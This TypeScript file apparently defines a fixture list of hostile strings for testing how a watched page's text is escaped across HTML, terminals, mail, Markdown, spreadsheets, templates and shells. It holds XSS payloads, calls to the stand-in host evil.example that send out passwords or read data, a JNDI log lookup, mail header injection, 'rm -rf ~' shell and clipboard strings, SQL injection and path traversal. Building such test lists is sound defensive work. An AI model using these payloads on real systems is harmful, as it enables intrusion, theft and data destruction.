export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const ESC = '\u001b';

/** What a watched page may say to become something else than text somewhere on the way. Own writing, all of it. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  // Markup and script.
  { name: 'a script', text: '<script>alert("p0")</script>' },
  {
    name: 'a script that closes what it may stand in',
    text: `'"></style></title></textarea><script>alert(1)</script>`,
  },
  { name: 'an event handler', text: '<img src=x onerror=alert(2)>' },
  { name: 'an event handler in an attribute', text: `" onmouseover="alert(3)" x="` },
  { name: 'an event handler behind one quote', text: `' autofocus onfocus='alert(4)` },
  {
    name: 'a drawing with a script',
    text: '<svg/onload=alert(5)><a xlink:href="javascript:alert(6)"><text>x</text></a></svg>',
  },
  { name: 'a formula with a link', text: '<math><mtext><a href="javascript:alert(7)">y</a></mtext></math>' },
  { name: 'a frame', text: '<iframe srcdoc="<script>alert(8)</script>"></iframe>' },
  { name: 'a form', text: '<form action=https://evil.example/><input name=password><button>Log in</button></form>' },
  {
    name: 'a base and a refresh',
    text: '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">',
  },
  { name: 'a style', text: '<style>*{background:url(//evil.example/leak)}</style>' },
  { name: 'a colour that ends its declaration', text: `red;background:url('//evil.example/p.png')` },
  { name: 'a picture that tells who reads', text: '<img src="https://evil.example/pixel.gif" width=1>' },
  { name: 'a comment that does not end', text: '<!-- <b>hidden</b>' },
  { name: 'a conditional comment', text: '<!--[if mso]><script>alert(9)</script><![endif]-->' },
  { name: 'a CDATA section', text: '<![CDATA[<script>alert(10)</script>]]>' },
  { name: 'entities encoded once', text: '&lt;script&gt;alert(11)&lt;/script&gt;' },
  { name: 'entities encoded twice', text: '&amp;lt;img src=x onerror=alert(12)&amp;gt;' },
  { name: 'entities without their semicolon', text: '&#60script&#62alert(13)&#x3C/script' },
  { name: 'a tag in wide letters', text: '\uff1cscript\uff1ealert(14)\uff1c/script\uff1e' },
  // Links.
  { name: 'a script address', text: 'javascript:alert(15)' },
  { name: 'a script address with a tab in it', text: 'java\tscript:alert(16)' },
  { name: 'a script address behind a control', text: '\u0001javascript:alert(17)' },
  { name: 'a script address in capitals and entities', text: 'JaVaScRiPt&colon;alert(18)' },
  { name: 'a data address', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxOSk8L3NjcmlwdD4=' },
  { name: 'a Visual Basic address', text: 'vbscript:msgbox(20)' },
  { name: 'a file address', text: 'file:///etc/passwd' },
  { name: 'an address with a password', text: 'https://plumbago.example:secret@evil.example/' },
  // Terminals.
  { name: 'a colour and a cleared screen', text: `${ESC}[31mred${ESC}[2J${ESC}[H` },
  { name: 'a window title', text: `${ESC}]0;pwned\u0007` },
  { name: 'a terminal link', text: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\` },
  { name: 'a clipboard', text: `${ESC}]52;c;cm0gLXJmIH4=\u0007` },
  { name: 'eight-bit controls', text: '\u009b31m\u009d0;pwned\u009c\u0090q\u0085next' },
  { name: 'a line taken back', text: 'harmless\rWe sell everything\b\b\b\u007f' },
  { name: 'a bell and a form feed', text: 'ding\u0007\u000c\u000b' },
  // Reading order and invisible signs.
  { name: 'an override of the reading order', text: 'we do \u202eton\u202c train on your data' },
  { name: 'isolates', text: '\u2066 if allowed \u2069 never \u2067 llams \u2069' },
  { name: 'signs that nobody sees', text: 'con\u200bsent\u2060 \ufeffis\u200d \u00adnot\u180e needed' },
  { name: 'tag letters', text: 'ordinary\u{e0041}\u{e0042}\u{e007f} words' },
  { name: 'line separators', text: 'one\u2028two\u2029three' },
  { name: 'interlinear notes', text: '\ufff9base\ufffanote\ufffb' },
  // Mail.
  { name: 'a second header', text: 'News\r\nBcc: victim@evil.example\r\nX-Evil: 1' },
  { name: 'a folded header', text: 'News\r\n Content-Type: text/html\r\n\r\n<script>alert(21)</script>' },
  { name: 'a header in line separators', text: 'News\u2028Bcc: victim@evil.example\u0085X-Evil: 1' },
  { name: 'an encoded word', text: '=?utf-8?B?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=' },
  { name: 'a MIME boundary', text: '--b1\r\nContent-Type: text/html\r\n\r\n<script>alert(22)</script>\r\n--b1--' },
  { name: 'a From line', text: 'From victim@evil.example Mon Nov 23 00:00:00 2026' },
  {
    name: 'the end of a message',
    text: '\r\n.\r\nMAIL FROM:<victim@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA\r\n',
  },
  // Markdown, tables, patches, templates, names.
  { name: 'a Markdown link', text: '[terms](javascript:alert(23)) ![x](https://evil.example/p.png)' },
  { name: 'a Markdown heading and a rule', text: '# Heading\n---\n> quoted\n- item\n1. one' },
  { name: 'Markdown code and a table', text: '`code` ~~~\n| a | b |\n|---|---|' },
  { name: 'an automatic link', text: '<https://evil.example/> www.evil.example mailto:x@evil.example' },
  { name: 'a Markdown reference', text: '[x]: https://evil.example/ "title"' },
  { name: 'a formula of a table', text: '=HYPERLINK("https://evil.example/","x")' },
  { name: 'a command of a table', text: `@SUM(1+1)*cmd|' /C calc'!A0` },
  { name: 'a formula with a sign', text: '+1-1|cmd' },
  { name: 'a head of a patch', text: '--- a/../../etc/passwd\n+++ b/x\n@@ -1 +1 @@\n-a\n+b' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template engine would fill in
  { name: 'templates', text: '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {%raw%} *{7*7} @(7*7)' },
  { name: 'a template that leaves its sandbox', text: `{{constructor.constructor('return process.env')()}}` },
  { name: 'a template of a log', text: '\u0024{jndi:ldap://evil.example/a} %s %d %o %n' },
  { name: 'a shell', text: '$(touch /tmp/pwned) `id` ; rm -rf ~ && echo' },
  { name: 'a path that climbs', text: '../../../../etc/cron.d/evil' },
  { name: 'a path of Windows', text: 'C:\\Windows\\..\\con.md:stream' },
  { name: 'a statement of a database', text: `'); DROP TABLE versions; --` },
  { name: 'prototype keys', text: '__proto__ constructor prototype' },
  { name: 'an end of a NUL', text: 'policy\u0000.html' },
  { name: 'half a letter', text: 'half \ud83d of a letter \udc00' },
  { name: 'many marks on one letter', text: `Z${'\u0301\u0489'.repeat(40)}` },
];
